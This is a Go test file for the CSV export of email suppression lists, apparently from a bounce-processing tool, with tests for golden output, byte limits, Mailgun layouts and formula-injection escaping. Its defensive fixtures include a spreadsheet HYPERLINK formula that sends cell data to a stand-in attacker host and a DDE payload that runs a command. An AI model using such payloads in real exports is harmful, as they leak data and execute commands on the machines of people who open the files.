package suppress

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bouncer-dev/bouncer/classify"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// goldenLists is a history with every category, awkward diagnostics and
// out-of-order input, decided with the default policy.
func goldenLists() Lists {
	events := []Event{
		{Address: "zed@example.org", Category: classify.CategoryHard, Reason: classify.ReasonUserUnknown,
			Status: "5.1.1", ReplyCode: "550", Diagnostic: "550 5.1.1 <zed@example.org>:\r\n\tRecipient address rejected: User unknown",
			Date: day(3, 4)},
		{Address: "abuse-report@example.net", Category: classify.CategoryComplaint, Reason: classify.ReasonFeedback,
			Date: day(5, 0)},
		{Address: "full@example.com", Category: classify.CategorySoft, Reason: classify.ReasonMailboxFull,
			Status: "4.2.2", ReplyCode: "452", Diagnostic: "452 4.2.2 Mailbox full", Date: day(1, 0)},
		{Address: "full@example.com", Category: classify.CategorySoft, Reason: classify.ReasonMailboxFull,
			Status: "4.2.2", ReplyCode: "452", Diagnostic: "452 4.2.2 Mailbox full", Date: day(2, 0)},
		{Address: "full@example.com", Category: classify.CategorySoft, Reason: classify.ReasonMailboxFull,
			Status: "5.2.2", ReplyCode: "552", Diagnostic: `552 5.2.2 "quota" exceeded, try later`, Date: day(4, 12)},
		{Address: "evil@example.com", Category: classify.CategoryHard, Reason: classify.ReasonUserUnknown,
			Status: "5.1.1", ReplyCode: "550", Diagnostic: `=HYPERLINK("http://attacker.example/?x="&A1,"click")`, Date: day(2, 0)},
		{Address: "minus@example.com", Category: classify.CategoryHard, Reason: classify.ReasonSuspend,
			Status: "5.2.1", Diagnostic: "-2+3 account disabled", Date: day(2, 0)},
		{Address: "jürgen@xn--bcher-kva.example", Category: classify.CategoryHard, Reason: classify.ReasonHostUnknown,
			Status: "5.1.2", Diagnostic: "Host oder Domänenname nicht gefunden. " + strings.Repeat("lang ", 80), Date: day(0, 0)},
		{Address: "blocked@example.com", Category: classify.CategoryPolicy, Reason: classify.ReasonBlocked,
			Status: "5.7.1", ReplyCode: "554", Diagnostic: "@spamhaus listed 192.0.2.1", Date: day(1, 0)},
		{Address: "ooo@example.com", Category: classify.CategoryNone, Reason: classify.ReasonVacation, Date: day(5, 0)},
	}
	return Decide(events, nil, nil)
}

func TestWriteCSVGolden(t *testing.T) {
	l := goldenLists()
	for _, f := range Formats() {
		t.Run(string(f), func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, WriteCSV(&b, f, append(l.Suppressed, l.Policy...)), "WriteCSV(%s)", f)
			golden := filepath.Join("testdata", string(f)+".golden")
			if *update {
				require.NoError(t, os.WriteFile(golden, b.Bytes(), 0o644))
			}
			want, err := os.ReadFile(golden)
			require.NoError(t, err, "(run go test -update to create it)")
			assert.Equal(t, want, b.Bytes(), "WriteCSV(%s)", f)
			if f != FormatPlain {
				r := csv.NewReader(bytes.NewReader(b.Bytes()))
				_, err := r.ReadAll()
				assert.NoError(t, err, "WriteCSV(%s) is not valid CSV", f)
			}
		})
	}
}

func TestWriteCSVDeterministic(t *testing.T) {
	l := goldenLists()
	entries := append(l.Suppressed, l.Policy...)
	reversed := make([]Entry, len(entries))
	for i, e := range entries {
		reversed[len(entries)-1-i] = e
	}
	for _, f := range Formats() {
		var a, b bytes.Buffer
		require.NoError(t, WriteCSV(&a, f, entries))
		require.NoError(t, WriteCSV(&b, f, reversed))
		assert.Equal(t, b.Bytes(), a.Bytes(), "WriteCSV(%s) differs between two writes of the same entries", f)
	}
}

// TestWriteCSVFormulaInjection reads every cell back and checks that none
// would start a formula in a spreadsheet.
func TestWriteCSVFormulaInjection(t *testing.T) {
	var entries []Entry
	for i, s := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|'/C calc'!A0"} {
		entries = append(entries, Entry{
			Address:    string(rune('a'+i)) + "@example.com",
			Category:   classify.CategoryHard,
			Reason:     classify.Reason(s),
			Status:     s,
			ReplyCode:  s,
			Diagnostic: s,
			Bounces:    1,
		})
	}
	for _, f := range []Format{FormatGeneric, FormatMailchimp} {
		var b bytes.Buffer
		require.NoError(t, WriteCSV(&b, f, entries))
		rows, err := csv.NewReader(&b).ReadAll()
		require.NoError(t, err)
		for _, row := range rows[1:] {
			for _, cell := range row {
				assert.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "WriteCSV(%s): cell %q starts a formula", f, cell)
			}
		}
	}
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"5.1.1", "5.1.1"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, DefuseFormula(tt.in), "DefuseFormula(%q)", tt.in)
	}
}

func TestOneLine(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"folded", "550 5.1.1\r\n\tuser unknown", "550 5.1.1 user unknown"},
		{"trim", "  x  ", "x"},
		{"control", "a\x00\x1bb", "a b"},
		{"invalid utf8", "a\xffb", "a\uFFFDb"},
		{"long", strings.Repeat("é", 400), strings.Repeat("é", (MaxDiagnostic-3)/2) + "…"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := oneLine(tt.in)
			assert.Equal(t, tt.want, got, "oneLine(%q)", tt.in)
			assert.LessOrEqual(t, len(got), MaxDiagnostic, "oneLine(%q) is %d bytes, over MaxDiagnostic", tt.in, len(got))
		})
	}
}

func TestParseFormat(t *testing.T) {
	tests := []struct {
		in   string
		want Format
		err  error
	}{
		{"", FormatGeneric, nil},
		{"generic", FormatGeneric, nil},
		{"Listmonk", FormatListmonk, nil},
		{"MAILCHIMP", FormatMailchimp, nil},
		{"mautic", FormatMautic, nil},
		{"mailgun", FormatMailgun, nil},
		{"mailgun-bounces", FormatMailgunBounces, nil},
		{"Mailgun-Complaints", FormatMailgunComplaints, nil},
		{"plain", FormatPlain, nil},
		{"excel", "", ErrUnknownFormat},
	}
	for _, tt := range tests {
		got, err := ParseFormat(tt.in)
		assert.Equal(t, tt.want, got, "ParseFormat(%q)", tt.in)
		assert.ErrorIs(t, err, tt.err, "ParseFormat(%q)", tt.in)
	}
	assert.ErrorIs(t, WriteCSV(&bytes.Buffer{}, "excel", nil), ErrUnknownFormat, "WriteCSV(excel)")
}

func TestWriteFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "list.csv")
	l := goldenLists()
	require.NoError(t, os.WriteFile(path, []byte("old"), 0o600))
	require.NoError(t, WriteFile(path, FormatGeneric, l.Suppressed), "WriteFile()")
	var want bytes.Buffer
	require.NoError(t, WriteCSV(&want, FormatGeneric, l.Suppressed))
	got, err := os.ReadFile(path)
	assert.NoError(t, err, "WriteFile() wrote %q, %v", got, err)
	assert.Equal(t, want.Bytes(), got, "WriteFile() wrote %q, %v", got, err)
	fi, err := os.Stat(path)
	assert.NoError(t, err, "mode")
	assert.EqualValues(t, 0o600, fi.Mode().Perm(), "an existing list keeps its mode")
	names, _ := os.ReadDir(dir)
	assert.Len(t, names, 1, "directory holds %d files after WriteFile", len(names))
	assert.Error(t, WriteFile(filepath.Join(dir, "missing", "list.csv"), FormatGeneric, nil), "WriteFile() into a missing directory")
}

func TestWriteDir(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "out")
	paths, err := WriteDir(dir, FormatPlain, goldenLists())
	require.NoError(t, err, "WriteDir()")
	want := map[string]string{
		FileHard:      "evil@example.com\njürgen@xn--bcher-kva.example\nminus@example.com\nzed@example.org\n",
		FileSoft:      "full@example.com\n",
		FilePolicy:    "blocked@example.com\n",
		FileComplaint: "abuse-report@example.net\n",
	}
	assert.Len(t, paths, len(want), "WriteDir()")
	for name, w := range want {
		got, err := os.ReadFile(filepath.Join(dir, name))
		assert.NoError(t, err, "%s", name)
		assert.Equal(t, w, string(got), "%s", name)
	}
}

// TestMailchimpByteLimit: Mailchimp's text fields hold 255 bytes, so a cell
// of multi-byte text is cut at a rune boundary within 255 bytes.
func TestMailchimpByteLimit(t *testing.T) {
	tests := []struct {
		name, diag string
		want       string
	}{
		{"short", "452 4.2.2 Mailbox voll", "452 4.2.2 Mailbox voll"},
		{"exactly 255 bytes", strings.Repeat("a", 255), strings.Repeat("a", 255)},
		// 2-byte runes: 126 of them and "…" (3 bytes) make 255 bytes.
		{"two-byte runes", strings.Repeat("é", 140), strings.Repeat("é", 126) + "…"},
		// 3-byte runes: 84 of them (252 bytes) and "…" make 255 bytes.
		{"three-byte runes", strings.Repeat("日", 100), strings.Repeat("日", 84) + "…"},
		{"defused then cut", "=" + strings.Repeat("b", 300), "'=" + strings.Repeat("b", 250) + "…"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, WriteCSV(&b, FormatMailchimp, []Entry{{Address: "a@example.com", Category: classify.CategorySoft,
				Reason: classify.ReasonMailboxFull, Diagnostic: tt.diag, Bounces: 1}}))
			rows, err := csv.NewReader(&b).ReadAll()
			require.NoError(t, err)
			require.Len(t, rows, 2)
			got := rows[1][4]
			assert.Equal(t, tt.want, got)
			assert.LessOrEqual(t, len(got), MaxMailchimpText)
			assert.True(t, utf8.ValidString(got))
		})
	}
}

// TestMailgunLayouts reads the Mailgun lists back as Mailgun's importers
// document them: bounces address,code,error,created_at (code an SMTP reply
// code or empty, created_at RFC 2822), complaints address,created_at (and
// complaints alone).
func TestMailgunLayouts(t *testing.T) {
	date := time.Date(2026, 1, 4, 4, 0, 0, 0, time.UTC)
	entries := []Entry{
		{Address: "zed@example.org", Category: classify.CategoryHard, Reason: classify.ReasonUserUnknown, Status: "5.1.1",
			ReplyCode: "550", Diagnostic: "550 5.1.1 user unknown", Bounces: 1, LastBounce: date},
		{Address: "odd@example.org", Category: classify.CategoryHard, Reason: classify.ReasonUserUnknown,
			ReplyCode: "5.1.1", Bounces: 1, LastBounce: date},
		{Address: "fbl@example.org", Category: classify.CategoryComplaint, Reason: classify.ReasonFeedback,
			Bounces: 1, LastBounce: date},
	}
	tests := []struct {
		f    Format
		want [][]string
	}{
		{FormatMailgunBounces, [][]string{
			{"address", "code", "error", "created_at"},
			{"fbl@example.org", "", "", "Sun, 04 Jan 2026 04:00:00 +0000"},
			{"odd@example.org", "", "", "Sun, 04 Jan 2026 04:00:00 +0000"},
			{"zed@example.org", "550", "550 5.1.1 user unknown", "Sun, 04 Jan 2026 04:00:00 +0000"},
		}},
		// Complaints only, whatever the entries: a hard bounce is not
		// a spam report.
		{FormatMailgunComplaints, [][]string{
			{"address", "created_at"},
			{"fbl@example.org", "Sun, 04 Jan 2026 04:00:00 +0000"},
		}},
	}
	for _, tt := range tests {
		t.Run(string(tt.f), func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, WriteCSV(&b, tt.f, entries))
			rows, err := csv.NewReader(&b).ReadAll()
			require.NoError(t, err)
			assert.Equal(t, tt.want, rows)
			for _, r := range rows[1:] {
				_, err := time.Parse(time.RFC1123Z, r[len(r)-1])
				assert.NoError(t, err, "created_at in RFC 2822 form")
			}
		})
	}
}
